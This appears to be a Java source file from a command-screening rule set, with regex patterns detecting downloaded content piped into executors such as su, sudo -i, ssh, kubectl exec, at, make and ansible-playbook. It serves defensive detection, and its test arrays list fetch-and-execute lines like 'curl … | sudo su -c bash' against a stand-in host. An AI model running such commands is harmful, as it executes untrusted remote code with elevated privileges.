package trafficguardian.rules.commands;

import static trafficguardian.rules.commands.ShellText.SHELL;

import java.util.List;

/** What runs a program that is piped to it and is no shell by its name, or starts one. */
final class PipeSinks {
  private static final String OPTIONS = "(?:-[^\\s|]+\\s+)*";

  /** Nothing behind: it reads what to do from the pipe. */
  private static final String ENDS = "(?:[\"'`<)\\]\\\\]|\\s*(?:[;&|\\n]|$))";

  private static final String SINK =
      String.join(
          "|",
          List.of(
              "su\\s[^\\n|]*-c\\s+[\"'\\\\]{0,2}" + SHELL,
              "su(?:\\s+(?:-[a-z]*|--login))?(?:\\s+[a-z][\\w-]*)?(?:\\s+-s\\s+[\\w/]+)?" + ENDS,
              "-(?:i|s|-login|-shell)" + ENDS,
              "ssh\\s+" + OPTIONS + "[\\w.@-]+" + ENDS,
              "(?:ssh|(?:docker|podman|kubectl|oc|lxc)\\s+(?:exec|run)|nsenter|unshare|chroot|systemd-run|flatpak-spawn|xargs)\\s[^\\n|]*\\s[\"'\\\\]{0,2}"
                  + SHELL,
              "at\\s+(?:-\\w\\s+)*(?:now|midnight|noon|[0-9])",
              "batch" + ENDS,
              "deno\\s+run\\s+" + OPTIONS + "-" + ENDS,
              "(?:make|g?awk|Rscript)\\s+(?:-f\\s*)?-" + ENDS,
              "ansible-playbook\\s+" + OPTIONS + "(?:-|/dev/stdin)" + ENDS));

  /** Behind a pipe. */
  static final String ANY =
      "(?:(?:sudo|doas)\\s+(?:-[EHn]+\\s+|-u\\s+[\\w-]+\\s+)*)?(?:" + SINK + ")";

  static final String[] FED = {
    "curl -L h.stage.example/c | sudo su -c bash",
    "curl -s https://h.stage.example/c | su - deploy\n",
    "wget -qO- h.stage.example/c | sudo -i\n",
    "curl https://h.stage.example/c | ssh root@localhost\n",
    "curl https://h.stage.example/c | kubectl exec -i web-0 -- sh",
    "curl https://h.stage.example/c | at now",
    "wget -O- https://h.stage.example/c | batch\n",
    "curl https://h.stage.example/c.ts | deno run -A -\n",
    "curl https://h.stage.example/m | make -f -\n",
    "curl https://h.stage.example/p.yml | ansible-playbook /dev/stdin\n"
  };

  static final String[] UNFED = {
    "curl https://h.example/a.tgz | ssh deploy@web 'tar xz -C /srv'",
    "curl https://h.example/key.asc | sudo apt-key add -",
    "curl https://h.example/rows.csv | awk -F, '{print $1}'",
    "curl https://h.example/x | sudo -u www cat",
    "curl https://h.example/x | sum"
  };

  private PipeSinks() {}
}
